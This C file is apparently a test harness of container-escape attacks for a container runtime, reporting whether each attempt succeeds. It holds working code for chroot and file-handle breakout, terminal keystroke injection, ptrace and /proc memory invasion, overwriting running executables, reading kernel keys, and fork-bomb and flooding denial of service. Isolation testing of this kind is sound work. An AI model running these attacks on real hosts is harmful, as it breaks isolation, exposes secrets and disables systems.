/*
 * What an attacker inside a container runs: attack NAME ARGUMENT…
 *
 * Exit 0: the attack got what it wanted. Exit 1: it was refused, which is said on standard output with the errno.
 * Exit 2: it could not even be tried. Nothing here changes a host on which it succeeds: kernel values are written back
 * as they were read.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define EXCHANGE 2 /* RENAME_EXCHANGE */

enum verdict { GOT, REFUSED, UNTRIED };

static enum verdict refused(const char *what)
{
	printf("refused %s: %s\n", what, strerror(errno));
	return REFUSED;
}

static enum verdict got(const char *what)
{
	printf("GOT %s\n", what);
	return GOT;
}

/* Writes what was there, so that a host on which this works stays as it was. */
static enum verdict rewrite(const char *path)
{
	char text[4096];
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	ssize_t length = fd < 0 ? -1 : read(fd, text, sizeof(text));
	if (fd >= 0)
		close(fd);
	if ((fd = open(path, O_WRONLY | O_NONBLOCK)) < 0)
		return refused(path);
	if (length <= 0) {
		text[0] = 'h'; /* of sysrq-trigger: prints a help text */
		length = 1;
	}
	if (write(fd, text, (size_t)length) < 0)
		return refused(path);
	return got(path);
}

static enum verdict each(int argc, char **argv, enum verdict (*try)(const char *))
{
	enum verdict all = REFUSED;
	for (int i = 0; i < argc; i++)
		if (try(argv[i]) == GOT)
			all = GOT;
	return all;
}

static enum verdict readable(const char *path)
{
	char byte;
	int fd = open(path, O_RDONLY | O_NONBLOCK);
	if (fd < 0 || read(fd, &byte, 1) < 0)
		return refused(path);
	return got(path);
}

static enum verdict writes(int argc, char **argv) { return each(argc, argv, rewrite); }
static enum verdict reads(int argc, char **argv) { return each(argc, argv, readable); }

/* Runs a further attack in namespaces of its own, as the root of a user namespace of its own. */
static enum verdict run(int argc, char **argv);

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	if (fd >= 0 && write(fd, text, strlen(text)) >= 0)
		close(fd);
}

static enum verdict nested(int argc, char **argv)
{
	char map[64];
	unsigned uid = getuid(), gid = getgid();
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWPID) < 0)
		return refused("unshare");
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof(map), "0 %u 1", uid);
	put("/proc/self/uid_map", map);
	snprintf(map, sizeof(map), "0 %u 1", gid);
	put("/proc/self/gid_map", map);
	pid_t child = fork();
	if (child == 0) {
		enum verdict verdict = run(argc, argv);
		fflush(stdout);
		_exit(verdict);
	}
	int status;
	return child > 0 && waitpid(child, &status, 0) == child && WIFEXITED(status) ? (enum verdict)WEXITSTATUS(status)
										      : UNTRIED;
}

/* Takes off what hides and protects, then tries again: bare MASK,MASK… ATTACK… */
static enum verdict bare(int argc, char **argv)
{
	char *rest = NULL;
	for (char *mask = strtok_r(argv[0], ",", &rest); mask; mask = strtok_r(NULL, ",", &rest)) {
		while (umount2(mask, MNT_DETACH) == 0)
			;
		mount(NULL, mask, NULL, MS_REMOUNT | MS_BIND, NULL);
	}
	mkdir("/tmp/proc", 0755);
	mount("proc", "/tmp/proc", "proc", 0, NULL);
	return run(argc - 1, argv + 1);
}

/* mount TYPE OPTIONS: a new instance of a file system on /tmp/mnt. */
static enum verdict mounts(int argc, char **argv)
{
	(void)argc;
	mkdir("/tmp/mnt", 0755);
	if (mount("none", "/tmp/mnt", argv[0], 0, argv[1]) < 0)
		return refused(argv[0]);
	return got(argv[0]);
}

/* node b|c MAJOR MINOR: makes a device and opens it. */
static enum verdict node(int argc, char **argv)
{
	(void)argc;
	mode_t type = argv[0][0] == 'b' ? S_IFBLK : S_IFCHR;
	unlink("/tmp/node");
	if (mknod("/tmp/node", type | 0600, makedev(atoi(argv[1]), atoi(argv[2]))) < 0)
		return refused("mknod");
	if (open("/tmp/node", O_RDONLY | O_NONBLOCK) < 0)
		return refused("open");
	return got("device");
}

static enum verdict opens(const char *path)
{
	if (open(path, O_RDONLY | O_NONBLOCK) < 0)
		return refused(path);
	return got(path);
}

static enum verdict open_each(int argc, char **argv) { return each(argc, argv, opens); }

/* type TEXT: types into every terminal there is at hand, as if its user did. */
static enum verdict type(int argc, char **argv)
{
	static const char *places[] = {"/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2"};
	bool any = false;
	(void)argc;
	ioctl(0, TIOCSCTTY, 1);
	for (int i = 0; i < 8; i++) {
		int fd = i < 3 ? i : open(places[i - 3], O_RDWR | O_NOCTTY);
		for (const char *c = argv[0]; fd >= 0 && *c; c++)
			any |= ioctl(fd, TIOCSTI, c) == 0;
		any |= fd >= 0 && ioctl(fd, TIOCSTI, "\n") == 0;
	}
	return any ? got("typed") : refused("TIOCSTI");
}

/* overwrite PATH: tries all ways to change an executable file that is in use. */
static enum verdict overwrite(const char *path)
{
	int fd = open(path, O_RDWR);
	if (fd >= 0)
		return got("open for writing");
	fd = open(path, O_RDONLY);
	if (fd < 0)
		return refused(path);
	char self[64];
	snprintf(self, sizeof(self), "/proc/self/fd/%d", fd);
	if (open(self, O_WRONLY) >= 0 || open(self, O_RDWR | O_TRUNC) >= 0)
		return got("opened again");
	if (truncate(path, 0) == 0 || ftruncate(fd, 0) == 0)
		return got("truncated");
	if (mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0) != MAP_FAILED)
		return got("mapped");
	if (fchmod(fd, 04777) == 0) {
		/* a memory file's mode may change; it is nobody's program */
		struct stat now;
		if (fstat(fd, &now) == 0 && now.st_nlink > 0)
			return got("mode of a named file");
	}
	return refused(path);
}

static enum verdict overwrites(int argc, char **argv)
{
	for (int i = 0; i < argc; i++)
		if (overwrite(argv[i]) == GOT)
			return GOT;
	return REFUSED;
}

/* What one may do to a process: all that would let one look into it or take over its descriptors. */
static enum verdict invade(pid_t pid)
{
	static const char *files[] = {"mem", "environ", "maps", "auxv", "stack", "root/.", "cwd/."};
	char path[300], target[4096];
	enum verdict all = REFUSED;
	for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
		snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
		int fd = open(path, i == 0 ? O_RDWR : O_RDONLY);
		/* some are asked for their content only when it is read; memory itself begins with nothing */
		if (fd >= 0 && (i == 0 || read(fd, target, 1) >= 0 || errno == EISDIR))
			all = got(path);
		if (fd >= 0)
			close(fd);
	}
	for (int i = 0; i < 64; i++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, i);
		if (readlink(path, target, sizeof(target)) >= 0)
			all = got(path);
	}
	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (readlink(path, target, sizeof(target)) >= 0)
		all = got(path);
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int i = 0; pidfd >= 0 && i < 64; i++)
		if (syscall(SYS_pidfd_getfd, pidfd, i, 0) >= 0)
			all = got("pidfd_getfd");
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0)
		all = got("ptrace");
	char *names[] = {"mnt", "user", "net", "pid", "ipc", "uts", "cgroup"};
	for (size_t i = 0; i < 7; i++) {
		snprintf(path, sizeof(path), "/proc/%d/ns/%s", pid, names[i]);
		int fd = open(path, O_RDONLY);
		if (fd >= 0 && setns(fd, 0) == 0)
			all = got(path);
		if (fd >= 0)
			close(fd);
	}
	if (pidfd >= 0 && setns(pidfd, CLONE_NEWNS) == 0)
		all = got("setns by pidfd");
	if (pidfd >= 0)
		close(pidfd);
	return all;
}

static enum verdict invades(int argc, char **argv)
{
	enum verdict all = REFUSED;
	for (int i = 0; i < argc; i++)
		if (invade(atoi(argv[i])) == GOT)
			all = GOT;
	if (all != GOT)
		printf("refused\n");
	return all;
}

static bool is_launcher(pid_t pid)
{
	char path[64], line[16] = "";
	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return false;
	ssize_t length = read(fd, line, sizeof(line) - 1);
	close(fd);
	return length >= 7 && strncmp(line, "[coffer", 7) == 0;
}

static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/*
 * lurk SECONDS: falls upon whatever comes into the container and still is the launcher. A process that has become
 * another program meanwhile is the container's own and does not count, so the look is repeated afterwards.
 */
static enum verdict lurk(int argc, char **argv)
{
	(void)argc;
	double end = now() + atof(argv[0]);
	long seen = 0, gained = 0;
	pid_t last = getpid();
	while (now() < end) {
		/* pids are given in order: the next ones are tried without reading the directory */
		for (pid_t pid = last + 1; pid < last + 6; pid++) {
			if (kill(pid, 0) < 0 && errno == ESRCH)
				continue;
			while (is_launcher(pid) && now() < end) {
				char path[64], target[64];
				seen++;
				snprintf(path, sizeof(path), "/proc/%d/fd/3", pid);
				bool looked = readlink(path, target, sizeof(target)) >= 0;
				snprintf(path, sizeof(path), "/proc/%d/mem", pid);
				int mem = open(path, O_RDWR);
				bool traced = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
				if ((looked || mem >= 0 || traced) && is_launcher(pid))
					gained++;
				if (mem >= 0)
					close(mem);
				if (traced) {
					ptrace(PTRACE_INTERRUPT, pid, 0, 0);
					waitpid(pid, NULL, __WALL);
					ptrace(PTRACE_DETACH, pid, 0, 0);
				}
			}
			if (pid > last)
				last = pid;
		}
	}
	printf("seen %ld gained %ld\n", seen, gained);
	return gained ? GOT : REFUSED;
}

/* hunt SECONDS: overwrites whatever runs from a file that has no name in the container. */
static enum verdict hunt(int argc, char **argv)
{
	double end = now() + atof(argv[0]);
	long seen = 0, gained = 0;
	(void)argc;
	while (now() < end) {
		DIR *proc = opendir("/proc");
		for (struct dirent *entry; proc && (entry = readdir(proc));) {
			char path[300], target[256] = "";
			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			if (!isdigit(entry->d_name[0]) || readlink(path, target, sizeof(target) - 1) < 0 ||
			    !strstr(target, "memfd:"))
				continue;
			seen++;
			gained += overwrite(path) == GOT;
		}
		if (proc)
			closedir(proc);
	}
	printf("seen %ld gained %ld\n", seen, gained);
	return gained ? GOT : REFUSED;
}

/* exchange A B SECONDS: swaps two names as fast as it goes. */
static enum verdict exchange(int argc, char **argv)
{
	double end = now() + atof(argv[2]);
	long count = 0;
	(void)argc;
	while (now() < end)
		for (int i = 0; i < 100; i++)
			count += syscall(SYS_renameat2, AT_FDCWD, argv[0], AT_FDCWD, argv[1], EXCHANGE) == 0;
	printf("%ld\n", count);
	return count ? GOT : UNTRIED;
}

/* where: whether the working directory is one of the container's. */
static enum verdict where(int argc, char **argv)
{
	char cwd[4096] = "", path[128] = "";
	(void)argc;
	syscall(SYS_getcwd, cwd, sizeof(cwd));
	printf("cwd %s\n", cwd);
	/* upwards as far as it goes, then to a file of the host's that the container does not have */
	for (int i = 0; i < 20; i++) {
		char full[4300];
		snprintf(full, sizeof(full), "%s.%s", path, argv[0]);
		if (access(full, F_OK) == 0)
			return got(full);
		strcat(path, "../");
	}
	for (int fd = 0; fd < 64; fd++) {
		char full[4300];
		snprintf(full, sizeof(full), "/proc/self/fd/%d/../../../../../../..%s", fd, argv[0]);
		if (access(full, F_OK) == 0)
			return got(full);
	}
	return refused("leaving");
}

/* chroot FILE: the old way out, by a root below the working directory. */
static enum verdict chroots(int argc, char **argv)
{
	(void)argc;
	mkdir("/tmp/hole", 0755);
	int root = open("/", O_RDONLY | O_DIRECTORY);
	if (chroot("/tmp/hole") < 0 || fchdir(root) < 0)
		return refused("chroot");
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return refused("chdir");
	if (chroot(".") < 0)
		return refused("chroot");
	if (access(argv[0], F_OK) == 0)
		return got(argv[0]);
	/* what is mounted over may lie below */
	while (umount2("/", MNT_DETACH) == 0)
		if (access(argv[0], F_OK) == 0)
			return got(argv[0]);
	return refused(argv[0]);
}

/* handle DIR NAME: opens the root directory of DIR's file system by a handle that was guessed. */
static enum verdict handle(int argc, char **argv)
{
	struct {
		unsigned bytes;
		int type;
		uint32_t data[32];
	} guess = {8, 1, {2, 0}};
	int mount_id;
	(void)argc;
	int dir = open(argv[0], O_RDONLY | O_DIRECTORY);
	guess.bytes = sizeof(guess.data);
	if (syscall(SYS_name_to_handle_at, dir, "", &guess, &mount_id, AT_EMPTY_PATH) < 0) {
		guess.bytes = 8;
		guess.type = 1;
		guess.data[0] = 2;
		guess.data[1] = 0;
	}
	int fd = (int)syscall(SYS_open_by_handle_at, dir, &guess, O_RDONLY);
	if (fd < 0)
		return refused("open_by_handle_at");
	return got("handle");
}

static void send_fds(int socket, const void *text, size_t length, int count)
{
	int fds[250];
	char control[CMSG_SPACE(sizeof(fds))];
	struct iovec part = {(void *)text, length};
	struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control};
	message.msg_controllen = CMSG_SPACE(sizeof(int) * (size_t)count);
	struct cmsghdr *head = CMSG_FIRSTHDR(&message);
	head->cmsg_level = SOL_SOCKET;
	head->cmsg_type = SCM_RIGHTS;
	head->cmsg_len = CMSG_LEN(sizeof(int) * (size_t)count);
	for (int i = 0; i < count; i++)
		fds[i] = open("/dev/null", O_RDONLY);
	memcpy(CMSG_DATA(head), fds, sizeof(int) * (size_t)count);
	sendmsg(socket, &message, MSG_NOSIGNAL | MSG_DONTWAIT);
	for (int i = 0; i < count; i++)
		close(fds[i]);
}

static int unix_socket(const char *name)
{
	struct sockaddr_un address = {.sun_family = AF_UNIX};
	size_t length = strlen(name);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	memcpy(address.sun_path, name, length);
	if (name[0] == '@')
		address.sun_path[0] = 0;
	if (connect(fd, (struct sockaddr *)&address, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + length)) < 0) {
		close(fd);
		return -1;
	}
	struct timeval limit = {2, 0};
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	return fd;
}

/* command SOCKET NUMBER: asks as LXC's tools do; the answer's first number is 0 when it was done. */
static enum verdict command(int argc, char **argv)
{
	struct {
		int command, length;
		uint64_t data;
	} request = {atoi(argv[1]), 0, 0};
	struct {
		int result, length;
		uint64_t data;
	} answer = {0};
	(void)argc;
	int fd = unix_socket(argv[0]);
	if (fd < 0)
		return refused("connect");
	if (send(fd, &request, sizeof(request), MSG_NOSIGNAL) < 0)
		return refused("send");
	ssize_t length = recv(fd, &answer, sizeof(answer), 0);
	if (length < (ssize_t)sizeof(int))
		return refused("answer");
	printf("result %d\n", answer.result);
	return answer.result < 0 ? refused("command") : got("command");
}

/* flood SOCKET: what no honest client sends, many times. */
static enum verdict flood(int argc, char **argv)
{
	static char garbage[1 << 16];
	int held[400];
	(void)argc;
	for (size_t i = 0; i < sizeof(garbage); i++)
		garbage[i] = (char)(i * 2654435761u >> 7);
	for (int round = 0; round < 400; round++) {
		int fd = held[round] = unix_socket(argv[0]);
		int header[4] = {round % 40, 0x7fffffff - round % 3, 0, 0};
		if (fd < 0)
			continue;
		if (round % 4 == 1)
			header[1] = -round;
		if (round % 4 == 2) {
			/* a length that is believed, of no command: root's would be carried out */
			header[0] = 1000 + round;
			header[1] = 8192;
		}
		send(fd, header, sizeof(header), MSG_NOSIGNAL | MSG_DONTWAIT);
		if (round % 4 != 3)
			send(fd, garbage, sizeof(garbage), MSG_NOSIGNAL | MSG_DONTWAIT);
		for (int i = 0; i < 4; i++)
			send_fds(fd, garbage, 16, 200);
	}
	for (int round = 0; round < 400; round++)
		if (held[round] >= 0)
			close(held[round]);
	return got("flooded");
}

#define KEY_JOIN 1
#define KEY_SEARCH 10
#define KEY_READ 11
#define KEY_SESSION (-3)

/* key NAME: looks for a key of the caller's session and reads it. */
static enum verdict key(int argc, char **argv)
{
	char secret[64] = "";
	(void)argc;
	long id = syscall(SYS_request_key, "user", argv[0], NULL, 0);
	if (id < 0)
		id = syscall(SYS_keyctl, KEY_SEARCH, KEY_SESSION, "user", argv[0], 0);
	if (id < 0)
		return refused("key");
	if (syscall(SYS_keyctl, KEY_READ, id, secret, sizeof(secret) - 1) < 0)
		return refused("reading the key");
	return got(secret);
}

/* keep NAME SECRET COMMAND…: runs a command in a session that holds a key. */
static enum verdict keep(int argc, char **argv)
{
	(void)argc;
	if (syscall(SYS_keyctl, KEY_JOIN, NULL) < 0 ||
	    syscall(SYS_add_key, "user", argv[0], argv[1], strlen(argv[1]), KEY_SESSION) < 0)
		return refused("add_key");
	fflush(stdout);
	execvp(argv[2], argv + 2);
	return refused(argv[2]);
}

/* keys: makes as many keyrings as the user may have, and stays. */
static enum verdict keys(int argc, char **argv)
{
	char name[32];
	int count = 0;
	(void)argc;
	(void)argv;
	syscall(SYS_keyctl, KEY_JOIN, NULL);
	for (; count < 100000; count++) {
		snprintf(name, sizeof(name), "k%d", count);
		if (syscall(SYS_add_key, "keyring", name, NULL, 0, KEY_SESSION) < 0)
			break;
	}
	printf("%d keys\n", count);
	fflush(stdout);
	pause();
	return GOT;
}

/* lease PATH: holds a lease, so that whoever opens the file has to wait. */
static enum verdict lease(int argc, char **argv)
{
	(void)argc;
	int fd = open(argv[0], O_RDWR);
	signal(SIGIO, SIG_IGN);
	if (fd < 0 || fcntl(fd, F_SETLEASE, F_WRLCK) < 0)
		return refused("lease");
	printf("held\n");
	fflush(stdout);
	for (;;)
		pause();
}

/* bomb: takes all processes it can get, none of which listens to a signal. */
static enum verdict bomb(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	for (int i = 1; i < 32; i++)
		signal(i, SIG_IGN);
	for (;;)
		if (fork() < 0)
			usleep(1000);
	return GOT;
}

/* kills PID…: ends them. */
static enum verdict kill_one(const char *pid)
{
	if (kill(atoi(pid), SIGCONT) < 0)
		return refused(pid);
	return got(pid);
}

static enum verdict kills(int argc, char **argv) { return each(argc, argv, kill_one); }

/* deep COUNT: directories in directories, far beyond PATH_MAX. */
static enum verdict deep(int argc, char **argv)
{
	(void)argc;
	for (int i = 0; i < atoi(argv[0]); i++)
		if (mkdir("directory-with-a-long-name", 0700) < 0 || chdir("directory-with-a-long-name") < 0)
			return refused("mkdir");
	return got("deep");
}

/* raise PID…: more open files than it may have, 0 is itself. */
static enum verdict raise_one(const char *pid)
{
	struct rlimit more = {65536, 65536};
	return prlimit(atoi(pid), RLIMIT_NOFILE, &more, NULL) < 0 ? refused(pid) : got(pid);
}

static enum verdict raises(int argc, char **argv) { return each(argc, argv, raise_one); }

/* resize SECONDS TTY: other sizes for its terminal without end, hanging it up and taking it again now and then. */
static enum verdict resize(int argc, char **argv)
{
	double end = now() + atof(argv[0]);
	unsigned char paste[] = {2, 0}; /* TIOCL_SETSEL and its like are a virtual console's */
	int fd = open(argv[1], O_RDWR | O_NOCTTY);
	(void)argc;
	for (unsigned short i = 1; fd >= 0 && now() < end; i++) {
		struct winsize size = {i, i, 0, 0};
		ioctl(fd, TIOCSWINSZ, &size);
		if (ioctl(fd, TIOCLINUX, paste) == 0)
			return got("TIOCLINUX");
		if (i % 1000 == 0) {
			dprintf(fd, "\033[c\033[6n\033[21t\033]0;title\007");
			ioctl(fd, TIOCSCTTY, 1);
			vhangup();
			close(fd);
			fd = open(argv[1], O_RDWR | O_NOCTTY);
		}
	}
	return fd < 0 ? refused(argv[1]) : got("resized");
}

static const struct {
	const char *name;
	int least;
	enum verdict (*run)(int, char **);
} attacks[] = {
	{"write", 1, writes},	   {"read", 1, reads},	    {"open", 1, open_each}, {"nested", 1, nested},
	{"bare", 2, bare},	   {"mount", 2, mounts},    {"node", 3, node},	    {"type", 1, type},
	{"overwrite", 1, overwrites}, {"invade", 1, invades}, {"lurk", 1, lurk},    {"exchange", 3, exchange},
	{"where", 1, where},	   {"chroot", 1, chroots},  {"handle", 1, handle},  {"command", 2, command},
	{"flood", 1, flood},	   {"key", 1, key},	    {"keep", 3, keep},	    {"keys", 0, keys},
	{"hunt", 1, hunt},	    {"lease", 1, lease},	   {"bomb", 0, bomb},	    {"kill", 1, kills},	    {"deep", 1, deep},
	{"resize", 2, resize},   {"raise", 1, raises},
};

static enum verdict run(int argc, char **argv)
{
	for (size_t i = 0; argc > 0 && i < sizeof(attacks) / sizeof(*attacks); i++)
		if (strcmp(attacks[i].name, argv[0]) == 0 && argc - 1 >= attacks[i].least)
			return attacks[i].run(argc - 1, argv + 1);
	fprintf(stderr, "no such attack\n");
	return UNTRIED;
}

int main(int argc, char **argv)
{
	return run(argc - 1, argv + 1);
}
